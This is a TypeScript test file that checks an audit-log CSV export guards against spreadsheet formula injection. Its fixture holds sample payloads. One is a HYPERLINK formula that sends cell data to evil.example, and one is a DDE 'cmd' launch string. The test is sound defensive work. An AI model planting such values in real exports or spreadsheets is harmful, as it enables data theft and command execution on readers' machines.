import { describe, expect, it } from "vitest";
import { type AuditEntry, formatEntries } from "../src/index.ts";

const entry: AuditEntry = {
  seq: 1,
  time: "2026-11-30T10:00:00.000Z",
  actor: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  groups: ["@team", "ops"],
  action: "access.refused",
  target: "-2+3",
  details: { path: "+cmd|' /C calc'!A0" },
  prev: "0".repeat(64),
  hash: "a".repeat(64),
};

describe("audit export --format csv", () => {
  it("writes a text a spreadsheet would run as a formula with a ' before it", () => {
    const [, row] = formatEntries([entry], "csv").split("\r\n");
    expect(row).toBe(
      `1,2026-11-30T10:00:00.000Z,"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'@team;ops,access.refused,'-2+3,"{""path"":""+cmd|' /C calc'!A0""}",${"0".repeat(64)},${"a".repeat(64)}`,
    );
    for (const lead of ["\t", "\r"])
      expect(formatEntries([{ ...entry, actor: `${lead}x` }], "csv")).toContain(
        lead === "\r" ? `"'\rx"` : `'\tx`,
      );
  });

  it("json keeps every value as stored", () => {
    expect(formatEntries([entry], "json")).toBe(`${JSON.stringify(entry)}\n`);
  });
});
